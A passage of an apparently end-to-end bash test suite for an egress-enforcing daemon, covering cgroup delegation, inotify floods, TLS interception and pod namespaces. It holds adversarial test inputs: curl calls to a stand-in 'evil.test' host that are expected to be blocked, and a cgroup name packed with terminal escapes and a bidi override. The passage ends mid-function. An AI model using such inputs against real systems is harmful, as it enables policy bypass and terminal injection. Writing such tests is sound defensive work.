	out=$("$E2E_REPO/egressctl" reload --socket "$E2E_DIR/ctl/deleg.sock" 2>&1) ||
		fail "reload after job2: $(oneline "$out")"
	n=$(bpftool -j map dump pinned "$DBPF/egressd/egr_cgroups" | "$E2E_PY" -c 'import json, sys
print(len(json.load(sys.stdin)))')
	note "egr_cgroups: $n0 entries before job2's 30 subordinate cgroups, $n after"
	[ "$n" -le $((n0 + 20)) ] ||
		fail "30 cgroups of subordinate uids in one delegate took $((n - n0)) entries"
	grep -q "delegated cgroup $DCG/agents/job2: more than 16 cgroups" "$CASE_STDERR" ||
		fail "job2 was not denied as a whole: $(oneline "$(grep job2 "$CASE_STDERR" | tail -2)")"
}

# A delegate (nobody, owner of agents/deleg) nests cgroups deeper than the
# programs see their ancestors (EGR_MAX_CGROUP_DEPTH) and past PATH_MAX. The
# daemon's walk used to give up there (nftw: ENAMETOOLONG), leaving cgroups
# it had not reached yet bound to policy ids of the previous bank: after a
# reload to a narrower policy they kept the wide one, and after a second
# reload (which refills that bank) an id naming another tenant's audit-mode
# policy. Now every cgroup is judged: the victims get the new policy, no
# binding names another bank, and the too deep part is denied everything
# through its ancestor at the deepest level the programs see.
dwd_reaches() {
	in_cg "$DCG/agents/$1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "evil.test:443:$EVIL4" -o /dev/null "https://evil.test/" 2>&1
}
# dwd_banks LO HI: every egr_cgroups entry names a policy in [LO, HI) or
# denies (>= 1024); prints the offenders
dwd_banks() {
	bpftool -j map dump pinned "$DBPF/egressd/egr_cgroups" | "$E2E_PY" -c 'import json, sys
lo, hi = int(sys.argv[1]), int(sys.argv[2])
bad = []
for e in json.load(sys.stdin):
    v = e["value"]
    v = int.from_bytes(bytes(int(b, 16) for b in v), "little") if isinstance(v, list) else int(v)
    if v < 1024 and not lo <= v < hi:
        bad.append(v)
print(" ".join(map(str, bad)))
sys.exit(1 if bad else 0)' "$1" "$2"
}
# dwd_denies: egr_cgroups entries that deny everything (>= 1024)
dwd_denies() {
	bpftool -j map dump pinned "$DBPF/egressd/egr_cgroups" | "$E2E_PY" -c 'import json, sys
n = 0
for e in json.load(sys.stdin):
    v = e["value"]
    v = int.from_bytes(bytes(int(b, 16) for b in v), "little") if isinstance(v, list) else int(v)
    n += v >= 1024
print(n)'
}
case_daemon_walk_deep_tree() {
	need_egressd
	local out i rc ctl=$E2E_REPO/egressctl dsock=$E2E_DIR/ctl/dwd.sock
	daemon_bed dwd bpffs-dwd daemon-dwd agents/deleg
	cg_run 'for i in 0 1 2 3 4 5 6 7 8 9; do mkdir -p "$CG'"$DCG"'/agents/v$i"; done' ||
		fail "cannot create the victims' cgroups"
	# shellcheck disable=SC2016
	cg_run 'cd "$CG'"$DCG"'/agents/deleg" && chown '"$E2E_NOBODY_UID"' . cgroup.procs \
		cgroup.subtree_control cgroup.threads' || fail "cannot delegate deleg"
	local pol='"wide": { "allow": ["allowed.test", "evil.test"] },
                "narrow": { "allow": ["allowed.test"] }'
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { $pol },
  "bindings": [ { "cgroup": "$DCG/agents/v*", "policy": "wide" },
                { "cgroup": "$DCG/agents/deleg", "policy": "narrow" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	out=$(dwd_reaches v0) || fail "v0 -> evil.test under policy wide: $(oneline "$out")"
	# the delegate, unprivileged: 18 levels of 250-byte names (past
	# PATH_MAX), some siblings, then 40 more levels
	# shellcheck disable=SC2016
	out=$(cg_run 'cd "$CG'"$DCG"'/agents/deleg" && setpriv --reuid='"$E2E_NOBODY_UID"' \
		--regid='"$E2E_NOBODY_GID"' --clear-groups '"$E2E_PY"' -c "
import os
for i in range(18):
    os.mkdir(\"d\" * 250)
    os.chdir(\"d\" * 250)
for j in range(8):
    os.mkdir(\"b%d\" % j)
os.mkdir(\"a\")
os.chdir(\"a\")
for i in range(40):
    os.mkdir(\"c\")
    os.chdir(\"c\")
print(\"made\")
"' 2>&1)
	[ "$out" = made ] || fail "the delegate could not nest its cgroups: $(oneline "$out")"
	sleep 0.5
	sed -i 's/"policy": "wide" }/"policy": "narrow" }/' "$DCFG"
	out=$("$ctl" reload --socket "$dsock" 2>&1) || fail "reload 1: $(oneline "$out")"
	log_mark evil.test
	for i in 0 1 2 3 4 5 6 7 8 9; do
		out=$(dwd_reaches v$i) &&
			fail "v$i reached evil.test after the reload to narrow: $(oneline "$(daemon_binding "$DCG/agents/v$i")")"
	done
	out=$(dwd_banks 512 514) || fail "bindings outside bank 1 after reload 1: $out"
	evil_untouched "victims after reload 1"
	# bank 0 refilled: index 0 is now an audit-mode policy nothing binds
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "open": { "mode": "audit" }, "narrow": { "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/v*", "policy": "narrow" },
                { "cgroup": "$DCG/agents/deleg", "policy": "narrow" },
                { "cgroup": "$DCG/agents/unused-*", "policy": "open" } ] }
JSON
	out=$("$ctl" reload --socket "$dsock" 2>&1) || fail "reload 2: $(oneline "$out")"
	out=$(dwd_banks 0 2) || fail "bindings outside bank 0 after reload 2: $out"
	for i in 0 1 2 3 4 5 6 7 8 9; do
		out=$(dwd_reaches v$i) && fail "v$i reached evil.test after reload 2"
	done
	out=$(in_cg "$DCG/agents/v5" curl -sS --max-time 5 --cacert "$E2E_CA" -o /dev/null \
		https://allowed.test/ 2>&1) || fail "v5 -> allowed.test (narrow): $(oneline "$out")"
	evil_untouched "victims after reload 2"
	# the part too deep for the programs is denied everything (the
	# delegate's own policy would allow allowed.test)
	local deep
	deep=$DCG/agents/deleg$(printf "/%0250d" 0 | tr 0 d)
	for ((i = 1; i < 15; i++)); do deep=$deep/$(printf "%0250d" 0 | tr 0 d); done
	out=$(in_cg "$deep" curl -sS --max-time 5 --cacert "$E2E_CA" -o /dev/null \
		https://allowed.test/ 2>&1) && fail "a cgroup 18 levels deep reached allowed.test"
	note "18 levels deep: $(oneline "$out")"
	grep -q "deeper than 17 levels, or a path longer than 4096 bytes" "$CASE_STDERR" ||
		fail "no error about the deep cgroups: $(oneline "$(grep -i 'deep\|judged' "$CASE_STDERR")")"
	! grep -q "stopped early\|not every cgroup" "$CASE_STDERR" ||
		fail "the walk did not reach every cgroup: $(oneline "$(grep 'not every' "$CASE_STDERR")")"
	# a restart walks the same tree
	daemon_kill9
	daemon_start || fail "restart failed: $(tail -3 "$CASE_STDERR")"
	out=$(in_cg "$DCG/agents/v9" curl -sS --max-time 5 --cacert "$E2E_CA" -o /dev/null \
		https://allowed.test/ 2>&1) || fail "after a restart v9 -> allowed.test: $(oneline "$out")"
	out=$(dwd_banks 0 2) || fail "bindings outside bank 0 after the restart: $out"
	# Each too-deep branch denies its ancestor at level 16 (an entry of
	# egr_cgroups, which every tenant shares): 40 of them in the
	# delegate's subtree count against its cap of 16, and past it the
	# delegate's own cgroup is denied as a whole, one entry.
	local before after
	before=$(dwd_denies)
	# shellcheck disable=SC2016
	out=$(cg_run 'cd "$CG'"$DCG"'/agents/deleg" && setpriv --reuid='"$E2E_NOBODY_UID"' \
		--regid='"$E2E_NOBODY_GID"' --clear-groups '"$E2E_PY"' -c "
import os
os.makedirs(\"/\".join([\"p\"] * 12))
os.chdir(\"/\".join([\"p\"] * 12))
for j in range(40):
    os.makedirs(\"s%d/a/b\" % j)
print(\"made\")
"' 2>&1)
	[ "$out" = made ] || fail "the delegate could not make its branches: $(oneline "$out")"
	for i in $(seq 30); do
		grep -q "delegated cgroup $DCG/agents/deleg: more than 16 cgroups below it are too deep" \
			"$CASE_STDERR" && break
		sleep 0.1
	done
	after=$(dwd_denies)
	note "deny entries: $before before the 40 branches, $after after"
	[ "$after" -le $((before + 17)) ] ||
		fail "40 too-deep branches took $((after - before)) entries of egr_cgroups"
	grep -q "delegated cgroup $DCG/agents/deleg: more than 16 cgroups below it are too deep" \
		"$CASE_STDERR" || fail "the delegate was not denied as a whole"
	out=$(in_cg "$DCG/agents/deleg" curl -sS --max-time 5 --cacert "$E2E_CA" -o /dev/null \
		https://allowed.test/ 2>&1) && fail "the delegate's cgroup, denied as a whole, reached allowed.test"
	out=$(in_cg "$DCG/agents/v9" curl -sS --max-time 5 --cacert "$E2E_CA" -o /dev/null \
		https://allowed.test/ 2>&1) || fail "v9 -> allowed.test after the delegate's branches: $(oneline "$out")"
}

# A delegate floods its own cgroup with mkdir/rmdir (thousands) while root
# makes a cgroup elsewhere: that one must get its own (narrower) binding
# within 2 s, not after the daemon has waded through the flood (one walk
# and a warning line per vanished directory, a linear search per event:
# seconds), during which it runs under its ancestor's wider policy.
case_daemon_cgroup_flood() {
	need_egressd
	local out i fp t0 ms bound=no dsock=$E2E_DIR/ctl/dfl.sock
	daemon_bed dfl bpffs-dfl daemon-dfl agents/deleg
	# shellcheck disable=SC2016
	cg_run 'cd "$CG'"$DCG"'/agents/deleg" && chown '"$E2E_NOBODY_UID"' . cgroup.procs \
		cgroup.subtree_control cgroup.threads' || fail "cannot delegate deleg"
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "wide": { "allow": ["allowed.test", "evil.test"] },
                "narrow": { "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/**", "policy": "wide" },
                { "cgroup": "$DCG/agents/strict-*", "policy": "narrow" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	# shellcheck disable=SC2016
	cg_run 'cd "$CG'"$DCG"'/agents/deleg" && timeout 60 setpriv --reuid='"$E2E_NOBODY_UID"' \
		--regid='"$E2E_NOBODY_GID"' --clear-groups '"$E2E_PY"' -c "
import os, time
t = time.time()
for i in range(6000):
    os.mkdir(\"x%d\" % i)
    if i >= 100:
        os.rmdir(\"x%d\" % (i - 100))
print(\"flood\", round(time.time() - t, 2))
"' >"$E2E_DIR/run/dfl.out" 2>&1 &
	fp=$!
	sleep 0.3
	cg_run 'mkdir "$CG'"$DCG"'/agents/strict-1"' || fail "cannot create strict-1"
	t0=$(date +%s%N)
	for ((i = 0; i < 40; i++)); do
		daemon_binding "$DCG/agents/strict-1" >/dev/null 2>&1 && { bound=yes; break; }
		sleep 0.05
	done
	ms=$((($(date +%s%N) - t0) / 1000000))
	wait $fp
	note "$(cat "$E2E_DIR/run/dfl.out"); strict-1 bound=$bound after $ms ms"
	[ $bound = yes ] && [ $ms -le 2000 ] ||
		fail "strict-1 was not bound within 2 s of its creation during the flood ($ms ms)"
	out=$(in_cg "$DCG/agents/strict-1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "evil.test:443:$EVIL4" -o /dev/null https://evil.test/ 2>&1) &&
		fail "strict-1 reached evil.test"
	local lines
	lines=$(grep -c . "$CASE_STDERR")
	[ "$lines" -lt 200 ] || fail "the flood made $lines log lines"
	note "$lines daemon log lines"
	# 20,000 made at once overflow inotify's queue (16,384 events), and
	# then all removed: the re-walk after the overflow must not keep a
	# watch for each (they would count against the daemon's 65,536 for
	# every cgroup of the host, for good)
	local w0 w1
	w0=$("$E2E_REPO/egressctl" status --socket "$dsock" 2>&1 | grep -o '[0-9]* below the attach points' | grep -o '^[0-9]*')
	# shellcheck disable=SC2016
	cg_run 'cd "$CG'"$DCG"'/agents/deleg" && timeout 120 setpriv --reuid='"$E2E_NOBODY_UID"' \
		--regid='"$E2E_NOBODY_GID"' --clear-groups '"$E2E_PY"' -c "
import os, time
for i in range(20000):
    os.mkdir(\"y%d\" % i)
time.sleep(2)
for i in range(20000):
    os.rmdir(\"y%d\" % i)
"' || fail "the delegate could not make and remove its 20,000 cgroups"
	sleep 3
	w1=$("$E2E_REPO/egressctl" status --socket "$dsock" 2>&1 | grep -o '[0-9]* below the attach points' | grep -o '^[0-9]*')
	note "watches: $w0 before 20,000 cgroups made and removed, $w1 after"
	[ -n "$w0" ] && [ -n "$w1" ] && [ "$w1" -le $((w0 + 10)) ] ||
		fail "watches of removed cgroups kept: $w0 before, $w1 after"
}

# The attach point's cgroup removed and made again (a systemd slice stopped
# and started): the new cgroup has no programs until the daemon attaches
# them. It used to drop the watch and say nothing: processes in the new
# slice were not enforced at all (evil.test, UDP anywhere).
case_daemon_attach_point_recreated() {
	need_egressd
	local out i dsock=$E2E_DIR/ctl/dapr.sock
	daemon_bed dapr bpffs-dapr daemon-dapr agents/job1
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "narrow": { "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "narrow" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" -o /dev/null \
		https://allowed.test/ 2>&1) || fail "job1 -> allowed.test: $(oneline "$out")"
	# shellcheck disable=SC2016
	cg_run 'rmdir "$CG'"$DCG"'/agents/job1" "$CG'"$DCG"'/agents" &&
		mkdir -p "$CG'"$DCG"'/agents/job2"' || fail "cannot remove and make the attach point"
	for ((i = 0; i < 40; i++)); do
		grep -q "attach point $DCG/agents was made again" "$CASE_STDERR" && break
		sleep 0.05
	done
	grep -q "attach point $DCG/agents was made again" "$CASE_STDERR" ||
		fail "no log line about the attach point made again: $(oneline "$(tail -3 "$CASE_STDERR")")"
	log_mark evil.test
	out=$(in_cg "$DCG/agents/job2" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "evil.test:443:$EVIL4" -o /dev/null https://evil.test/ 2>&1) &&
		fail "a process in the re-made attach point reached evil.test"
	evil_untouched "re-made attach point"
	out=$(in_cg "$DCG/agents/job2" curl -sS --max-time 5 --cacert "$E2E_CA" -o /dev/null \
		https://allowed.test/ 2>&1) || fail "job2 -> allowed.test (its binding): $(oneline "$out")"
	grep -q '"cgroup":"'"$DCG"'/agents/job2"' "$CASE_AUDIT" ||
		fail "no audit record names job2"
	# once more: the watch above it still works
	# shellcheck disable=SC2016
	cg_run 'rmdir "$CG'"$DCG"'/agents/job2" "$CG'"$DCG"'/agents" &&
		mkdir -p "$CG'"$DCG"'/agents/job3"' || fail "cannot remake the attach point again"
	for ((i = 0; i < 40; i++)); do
		[ "$(grep -c "attach point $DCG/agents was made again" "$CASE_STDERR")" -ge 2 ] && break
		sleep 0.05
	done
	out=$(in_cg "$DCG/agents/job3" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "evil.test:443:$EVIL4" -o /dev/null https://evil.test/ 2>&1) &&
		fail "job3 in the twice re-made attach point reached evil.test"
	evil_untouched "twice re-made attach point"
}

# A delegate names its cgroup with terminal escapes and a carriage return
# and runs a process in a network namespace of its own there: egressctl
# status lists that namespace with the cgroup's name, which must reach the
# terminal escaped like every other name (and the daemon's log too).
case_daemon_status_escapes_names() {
	need_egressd
	local out sp dsock=$E2E_DIR/ctl/dsn.sock
	daemon_bed dsn bpffs-dsn daemon-dsn agents/deleg
	# shellcheck disable=SC2016
	cg_run 'cd "$CG'"$DCG"'/agents/deleg" && chown '"$E2E_NOBODY_UID"' . cgroup.procs \
		cgroup.subtree_control cgroup.threads' || fail "cannot delegate deleg"
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "narrow": { "allow": ["allowed.test"] },
                "wide": { "allow": ["allowed.test", "evil.test"] } },
  "bindings": [ { "cgroup": "$DCG/**/x*", "policy": "wide" },
                { "cgroup": "$DCG/agents/deleg", "policy": "narrow" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	E2E_TIMEOUT=12 in_cg "$DCG/agents/deleg" sh -c '
		n=$(printf "x\033]0;PWNED\007\033[31mFORGED\033[0m\r  FAKE\302\2332J\342\200\256desrever")
		d=/sys/fs/cgroup'"$DCG"'/agents/deleg/$n
		mkdir "$d" && echo $$ >"$d/cgroup.procs" && exec unshare -Urn sleep 8' \
		>"$E2E_DIR/run/dsn.out" 2>&1 &
	sp=$!
	local i
	for ((i = 0; i < 60; i++)); do
		"$E2E_REPO/egressctl" status --socket "$dsock" >"$E2E_DIR/run/dsn.status" 2>&1
		grep -q FORGED "$E2E_DIR/run/dsn.status" && break
		sleep 0.1
	done
	wait $sp
	grep -q FORGED "$E2E_DIR/run/dsn.status" ||
		fail "the delegate's namespace is not listed: $(oneline "$(cat -v "$E2E_DIR/run/dsn.status" "$E2E_DIR/run/dsn.out")")"
	note "status: $(grep FORGED "$E2E_DIR/run/dsn.status" | cat -v)"
	LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$E2E_DIR/run/dsn.status" &&
		fail "egressctl status printed control bytes: $(grep FORGED "$E2E_DIR/run/dsn.status" | cat -v)"
	# C1 controls and bidirectional overrides, in UTF-8 (CSI, RLO)
	LC_ALL=C grep -q $'\xc2\x9b\|\xe2\x80\xae' "$E2E_DIR/run/dsn.status" &&
		fail "egressctl status printed a C1 control or a bidi override: $(grep FORGED "$E2E_DIR/run/dsn.status" | cat -v)"
	grep -q FORGED "$CASE_STDERR" ||
		fail "the daemon's log does not name the cgroup (the check below proves nothing)"
	LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$CASE_STDERR" &&
		fail "the daemon's log has control bytes: $(grep FORGED "$CASE_STDERR" | cat -v)"
	LC_ALL=C grep -q $'\xc2\x9b\|\xe2\x80\xae' "$CASE_STDERR" &&
		fail "the daemon's log has a C1 control or a bidi override: $(grep FORGED "$CASE_STDERR" | cat -v)"
	return 0
}

# egressd daemon with TLS interception: the daemon's CA (egressctl ca init),
# a bound cgroup whose policy intercepts allowed.test with a credential and
# a path rule, and a gateway. The daemon cannot set the agent's
# environment, so the client trusts the CA with --cacert. A reload that
# changes the rules applies to new connections.
case_daemon_intercepts() {
	need_egressd
	local out rc tok ctl=$E2E_REPO/egressctl dsock=$E2E_DIR/ctl/ic-control.sock
	local dca=$E2E_DIR/daemon-ca
	DCG=/egressd-e2e-daemon-ic-$$
	DBPF=$E2E_DIR/bpffs-ic
	DCFG=$E2E_DIR/daemon-ic.json
	trap daemon_cleanup EXIT
	tok="Bearer e2e-dtok-$RANDOM$RANDOM$RANDOM"
	export E2E_DAUTH=$tok
	"$ctl" ca init --dir "$dca" >/dev/null 2>&1 || fail "egressctl ca init failed"
	# what an agent is given: the certificate, exported (the directory is root's)
	"$ctl" ca export --dir "$dca" >"$E2E_DIR/daemon-ca.crt" && chmod 644 "$E2E_DIR/daemon-ca.crt" ||
		fail "egressctl ca export failed"
	mkdir -p "$DBPF" && mount -t bpf bpf "$DBPF" || fail "cannot mount a bpffs"
	cg_run 'mkdir -p "$CG'"$DCG"'/agents/job1"' || fail "cannot create the test cgroup"
	# first without a CA: refused, naming the policy and the fix
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock" },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "upstream_ca": "$E2E_CA",
  "policies": { "ic": { "allow": ["allowed.test"],
    "intercept": [ { "host": "allowed.test",
      "rules": [ { "name": "echo-only", "methods": ["GET"], "paths": ["/echo"] } ],
      "credentials": [ { "name": "bed-token", "header": "Authorization",
                         "value": "env:E2E_DAUTH" } ] } ],
    "gateways": [ { "listen": "127.0.0.1:8080", "upstream": "https://allowed.test",
      "credentials": [ { "name": "gw-token", "header": "Authorization",
                         "value": "env:E2E_DAUTH" } ] } ] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "ic" } ] }
JSON
	out=$("$EGRESSD" daemon --check --config "$DCFG" 2>&1); rc=$?
	[ $rc = 2 ] && grep -q "^egressd: $DCFG:4: policies.ic: intercepts allowed.test but the daemon has no CA" <<<"$out" ||
		fail "config without a CA: rc $rc: $(oneline "$out")"
	sed -i "s|\"upstream_ca\":|\"ca\": { \"dir\": \"$dca\" },\n  \"upstream_ca\":|" "$DCFG"
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	log_mark allowed.test
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_DIR/daemon-ca.crt" \
		-H "Authorization: Bearer agent-fake" "https://allowed.test/echo?q=1" | tr -d '\r') ||
		fail "job1 -> allowed.test/echo: $(oneline "$out")"
	note "echo: $(oneline "$out")"
	grep -qi "^Authorization: $tok\$" <<<"$out" ||
		fail "the server did not get the injected credential: $(oneline "$out")"
	grep -q 'agent-fake' <<<"$out" && fail "the agent's own value reached the server"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_DIR/daemon-ca.crt" \
		-o /dev/null -w '%{http_code}' https://allowed.test/private)
	[ "$out" = 403 ] || fail "denied path: expected 403, got $(oneline "$out")"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 http://127.0.0.1:8080/echo | tr -d '\r') ||
		fail "gateway: $(oneline "$out")"
	grep -qi "^Authorization: $tok\$" <<<"$out" ||
		fail "the gateway did not inject the credential: $(oneline "$out")"
	sleep 0.3
	[ "$(ic_requests allowed.test | grep -c '/private')" = 0 ] ||
		fail "the denied request reached the server"
	audit_find '(o.get("origin") == "intercept" and o.get("policy") == "ic" and
		o.get("http", {}).get("path") == "/echo" and o["http"].get("status") == 200 and
		o["http"].get("credentials") == ["bed-token"])' >/dev/null ||
		fail "no audit record for GET /echo with bed-token: $(head -c 600 "$CASE_AUDIT")"
	audit_find '(o.get("http", {}).get("path") == "/private" and
		o["http"].get("status") == 403 and o.get("rule") == "default")' >/dev/null ||
		fail "no audit record for the denied /private"
	audit_find '(o.get("origin") == "gateway" and
		o.get("http", {}).get("credentials") == ["gw-token"])' >/dev/null ||
		fail "no gateway audit record"
	grep -qF "${tok#Bearer }" "$CASE_AUDIT" "$CASE_STDERR" &&
		fail "the credential value is in the audit log or the daemon's stderr"
	# reload: /private allowed from now on, for new connections
	sed -i 's|"paths": \["/echo"\]|"paths": ["/echo", "/private"]|' "$DCFG"
	out=$("$ctl" reload --socket "$dsock" 2>&1) || fail "egressctl reload: $(oneline "$out")"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_DIR/daemon-ca.crt" \
		https://allowed.test/private) || fail "after reload, /private: $(oneline "$out")"
	grep -qxF "hello from allowed.test" <<<"$out" || fail "after reload: $(oneline "$out")"
	# a reload to a CA directory that does not hold a CA is refused
	mkdir -p "$E2E_DIR/empty-ca" && chmod 700 "$E2E_DIR/empty-ca"
	cp "$DCFG" "$DCFG.good"
	sed -i "s|\"dir\": \"$dca\"|\"dir\": \"$E2E_DIR/empty-ca\"|" "$DCFG"
	out=$("$ctl" reload --socket "$dsock" 2>&1); rc=$?
	[ $rc = 2 ] && grep -q "^egressctl: $DCFG:3: ca: cannot open" <<<"$out" ||
		fail "reload to an empty CA dir: rc $rc: $(oneline "$out")"
	scrape "$E2E_DIR/ic-metrics" || fail "GET /metrics failed"
	[ "$(metric egressd_config_last_reload_successful "$E2E_DIR/ic-metrics")" = 0 ] ||
		fail "reload refused for its CA, but the metrics say it applied"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_DIR/daemon-ca.crt" \
		https://allowed.test/private) || fail "after refused reload: $(oneline "$out")"
	# a reload without the gateway: its address is loopback again, refused
	"$E2E_PY" -c 'import json, sys
c = json.load(open(sys.argv[1]))
del c["policies"]["ic"]["gateways"]
json.dump(c, open(sys.argv[2], "w"))' "$DCFG.good" "$DCFG" || fail "cannot drop the gateway"
	out=$("$ctl" reload --socket "$dsock" 2>&1) || fail "reload without the gateway: $(oneline "$out")"
	# refused at connect() by the kernel (curl: 7), not by the proxy:
	# the gateway's address left the kernel's map too
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 http://127.0.0.1:8080/echo 2>&1); rc=$?
	[ $rc = 7 ] || fail "after the gateway's removal: curl exit $rc, want 7: $(oneline "$out")"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_DIR/daemon-ca.crt" \
		https://allowed.test/echo) || fail "after the gateway's removal: $(oneline "$out")"
}

# A Kubernetes pod, without Kubernetes: a third network namespace with no
# route anywhere (and lo down, as a bare `ip netns add` leaves it), a pod
# cgroup below the daemon's attach point, a "pause" process started after
# the daemon. The daemon must open its listeners inside the pod's namespace
# (docs/kubernetes.md), the agent's traffic must go through them, and they
# must close when the pod is gone.
pod_cleanup() {
	[ -n "${PAUSE:-}" ] && bed_stop_pid "$PAUSE"
	[ -n "${DPID:-}" ] && bed_stop_pid "$DPID"
	rm -rf "$DBPF/egressd" 2>/dev/null
	umount "$DBPF" 2>/dev/null
	cg_kill_remove "$DCG"
	ip netns del "$NS_POD" 2>/dev/null
	rm -rf "/etc/netns/$NS_POD"
}

# in_pod CGROUP CMD...: CMD as nobody in CGROUP, inside the pod's netns.
in_pod() { in_ns_cg "$NS_POD" "$@"; }

case_daemon_pod_netns() {
	need_egressd
	local out i ino ctl=$E2E_REPO/egressctl dsock=$E2E_DIR/ctl/pod.sock
	NS_POD=$E2E_ID-pod
	DCG=/egressd-e2e-pod-$$
	DBPF=$E2E_DIR/bpffs-pod
	DCFG=$E2E_DIR/daemon-pod.json
	PAUSE=
	local pod=$DCG/kubepods/burstable/pod0e2e$$
	trap pod_cleanup EXIT
	mkdir -p "$DBPF" && mount -t bpf bpf "$DBPF" || fail "cannot mount a bpffs"
	cg_run 'mkdir -p "$CG'"$DCG"'/kubepods/burstable"' || fail "cannot create the test cgroup"
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock" },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "pods": { "mode": "enforce", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/kubepods/*/pod*", "policy": "pods" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"

	# The pod: its own namespace (nothing routes out of it), its resolv.conf
	# naming the bed's DNS server, its cgroups; the pause process first.
	ip netns add "$NS_POD" || fail "cannot create the pod's netns"
	mkdir -p "/etc/netns/$NS_POD"
	echo "nameserver $DNS4" >"/etc/netns/$NS_POD/resolv.conf"
	printf '127.0.0.1 localhost\n::1 localhost\n' >"/etc/netns/$NS_POD/hosts"
	cg_run 'mkdir -p "$CG'"$pod"'/pause" "$CG'"$pod"'/agent"' ||
		fail "cannot create the pod's cgroups"
	# In runc's order: into the cgroup first (still in the runner's netns),
	# into the pod's netns a moment later.
	ip netns exec "$NS_HOST" unshare -m sh -c 'mount -t cgroup2 none /sys/fs/cgroup &&
		echo $$ >"/sys/fs/cgroup$0/cgroup.procs" && sleep 0.3 &&
		exec nsenter --net="/run/netns/$1" sleep 600' "$pod/pause" "$NS_POD" \
		</dev/null >/dev/null 2>&1 &
	PAUSE=$!
	bed_track "$PAUSE"
	ino=$(stat -L -c %i "/run/netns/$NS_POD") || fail "no inode for the pod's netns"
	for ((i = 0; i < 50; i++)); do
		grep -q "netns $ino .*listening on 127.0.0.1:$DAEMON_PORT" "$CASE_STDERR" && break
		sleep 0.1
	done
	grep -q "netns $ino .*listening on 127.0.0.1:$DAEMON_PORT" "$CASE_STDERR" ||
		fail "no listeners in the pod's netns after 5 s: $(tail -3 "$CASE_STDERR")"
	note "$(grep "netns $ino " "$CASE_STDERR" | head -2 | tr '\n' ' ')"
	out=$(ip netns exec "$NS_POD" ss -Hltn "sport = :$DAEMON_PORT")
	grep -q "127.0.0.1:$DAEMON_PORT" <<<"$out" ||
		fail "no TCP listener in the pod's netns: $(oneline "$out")"
	out=$(ip netns exec "$NS_POD" ss -Hlun "sport = :$DAEMON_PORT")
	grep -q "127.0.0.1:$DAEMON_PORT" <<<"$out" ||
		fail "no DNS listener in the pod's netns: $(oneline "$out")"
	# Without the enforcer nothing leaves the pod: no route at all.
	out=$(ip netns exec "$NS_POD" curl -sS --max-time 2 "http://$ALLOWED4/" 2>&1) &&
		fail "the pod reaches allowed.test without the proxy: the test proves nothing"

	log_mark evil.test
	log_mark allowed.test
	out=$(in_pod "$pod/agent" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "pod -> allowed.test: $(oneline "$out")"
	[ "$out" = "hello from allowed.test" ] || fail "reply: $(oneline "$out")"
	log_new allowed.test | grep -q '"sni": "allowed.test"' ||
		fail "allowed.test's server saw no TLS request with SNI allowed.test"
	out=$(in_pod "$pod/agent" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://evil.test/) && fail "pod -> evil.test succeeded"
	note "evil.test: $(oneline "$out")"
	out=$(in_pod "$pod/agent" curl -sSk --max-time 5 "https://$EVIL4/") &&
		fail "pod -> $EVIL4 (IP literal) succeeded"
	out=$(in_pod "$pod/agent" curl -sSf --max-time 5 "http://$EVIL4/") &&
		fail "pod -> http://$EVIL4 (IP literal) succeeded"
	grep -q "403" <<<"$out" || fail "pod -> http://$EVIL4: not the proxy's 403: $(oneline "$out")"
	evil_untouched "pod"
	# Both decisions came from the pod's cgroup, the name through the DNS
	# proxy's listener in the pod's namespace.
	sleep 0.3
	"$E2E_PY" - "$CASE_AUDIT" "$pod/agent" <<'PY' || fail "audit log: $(tail -c 600 "$CASE_AUDIT" | tr '\n' ' ')"
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
mine = [r for r in recs if r.get("cgroup") == sys.argv[2]]
def has(**kv):
